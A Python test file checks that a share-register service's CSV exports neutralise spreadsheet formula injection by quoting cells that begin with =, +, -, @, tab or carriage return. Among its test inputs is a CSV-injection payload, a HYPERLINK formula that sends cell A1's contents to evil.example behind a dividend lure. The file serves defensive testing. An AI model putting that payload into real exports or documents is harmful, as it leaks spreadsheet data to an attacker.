"""A CSV the service writes cannot run as a formula in the spreadsheet that opens it: a cell
beginning with = + - @, a tab or a carriage return is written with a leading single quote
(OWASP, CSV injection), whether the text came in through the API or a CSV import."""

from __future__ import annotations

import csv
import io

import pytest

from app.interchange.formats import CHUNK_ROWS, snapshot_csv
from app.interchange.formats.csv_cells import neutralise
from app.register.snapshot import HoldingRow
from tests.support.helpers import HOLDER_A, ORDINARY, bearer
from tests.support.snapshots import read

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your dividend")'
DANGEROUS_NAMES = [HYPERLINK, "+1", "-2", "@SUM(A1:A9)", "=1+2"]


@pytest.fixture
def issuer(client, new_issuer, make_token):
    issuer = new_issuer()
    headers = bearer(make_token("secretary", issuer["id"]))
    base = f"/api/v1/issuers/{issuer['id']}"
    created = client.post(f"{base}/classes", json=ORDINARY, headers=headers)
    assert created.status_code == 201, created.get_json()
    return {"base": base, "headers": headers}


def _snapshot_rows(client, issuer) -> list[dict[str, str]]:
    answer = read(
        client.get(f"{issuer['base']}/snapshot", query_string={"format": "csv"},
                   headers=issuer["headers"])
    )  # fmt: skip
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True), newline="")))


def _register_through_the_api(client, issuer, name: str, address: str, number: int) -> None:
    details = {**HOLDER_A, "name": name, "address": address, "identifier": f"API-{number}"}
    holder = client.post(f"{issuer['base']}/holders", json=details, headers=issuer["headers"])
    assert holder.status_code == 201, holder.get_json()
    allocation = {"class": "ORD", "holder_id": holder.get_json()["holder_id"], "quantity": 10}
    issued = client.post(
        f"{issuer['base']}/issuances", json={"allocations": [allocation]}, headers=issuer["headers"]
    )
    assert issued.status_code == 201, issued.get_json()


def _import_csv(client, issuer, names: list[str]) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["holder_key", "name", "address", "identifier", "country", "holder_type",
                     "class_code", "quantity"])  # fmt: skip
    for number, name in enumerate(names):
        writer.writerow([f"k{number}", name, f"-{number} Formula Row", f"CSV-{number}", "GB",
                         "person", "ORD", 5])  # fmt: skip
    imported = client.post(
        f"{issuer['base']}/imports?format=csv",
        data=buffer.getvalue().encode(),
        headers={**issuer["headers"], "Content-Type": "text/csv"},
    )
    assert imported.status_code == 201, imported.get_json()


def test_names_and_addresses_from_the_api_and_an_import_are_neutralised(client, issuer):
    for number, name in enumerate(DANGEROUS_NAMES):
        _register_through_the_api(client, issuer, name, f"@{number} Injection Lane", number)
    _import_csv(client, issuer, DANGEROUS_NAMES)
    rows = _snapshot_rows(client, issuer)
    assert len(rows) == 2 * len(DANGEROUS_NAMES)
    names = sorted(row["name"] for row in rows)
    assert names == sorted(f"'{name}" for name in DANGEROUS_NAMES * 2)
    addresses = {row["address"] for row in rows}
    assert addresses == {f"'@{n} Injection Lane" for n in range(len(DANGEROUS_NAMES))} | {
        f"'-{n} Formula Row" for n in range(len(DANGEROUS_NAMES))
    }
    for row in rows:  # the quantity stays a number a spreadsheet can add up
        assert row["quantity"] in {"5", "10"}


def test_a_leading_tab_or_carriage_return_never_reaches_the_register(client, issuer):
    """Text is trimmed at the door (API and import alike), so "\\tx" is registered as "x"."""
    _register_through_the_api(client, issuer, "\t=cmd", "\r=addr", 1)
    _import_csv(client, issuer, ["\t+tab", "\r-cr"])
    rows = _snapshot_rows(client, issuer)
    assert sorted(row["name"] for row in rows) == ["'+tab", "'-cr", "'=cmd"]
    assert "'=addr" in {row["address"] for row in rows}


def test_the_renderer_neutralises_every_trigger_and_leaves_other_text_alone():
    rows = [
        HoldingRow("ORD", "h1", "=HYPERLINK(1)", "+1", "-2", 7, "1.00", "1.00"),
        HoldingRow("ORD", "h2", "@SUM(A1)", "\tx", "\rx", 8, "2.00", "2.00"),
        HoldingRow("ORD", "h3", "Ada = Lovelace", "1-3 Mews", "GB", 9, "3.00", "3.00"),
    ]
    written = list(csv.reader(io.StringIO("".join(snapshot_csv.render(rows)), newline="")))
    assert written[1] == ["ORD", "h1", "'=HYPERLINK(1)", "'+1", "'-2", "7", "1.00", "1.00"]
    assert written[2] == ["ORD", "h2", "'@SUM(A1)", "'\tx", "'\rx", "8", "2.00", "2.00"]
    assert written[3] == ["ORD", "h3", "Ada = Lovelace", "1-3 Mews", "GB", "9", "3.00", "3.00"]


def test_a_dangerous_row_deep_in_a_long_export_is_found():
    plain = HoldingRow("ORD", "h", "Plain Name", "1 High Street", "GB", 1, "0.01", "0.01")
    rows = [plain] * (CHUNK_ROWS * 2 + 17) + [plain._replace(name="=evil()")] + [plain] * 5
    written = list(csv.reader(io.StringIO("".join(snapshot_csv.render(rows)), newline="")))
    assert [row[2] for row in written[1:]].count("'=evil()") == 1
    assert [row[2] for row in written[1:]].count("Plain Name") == len(rows) - 1


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1", "'=1"), ("+", "'+"), ("-", "'-"), ("@", "'@"), ("\t", "'\t"), ("\r", "'\r"),
     ("", ""), ("a=1", "a=1"), ("'=1", "'=1"), (7, 7), (-2, -2)],
)  # fmt: skip
def test_neutralise(cell, written):
    assert neutralise(cell) == written
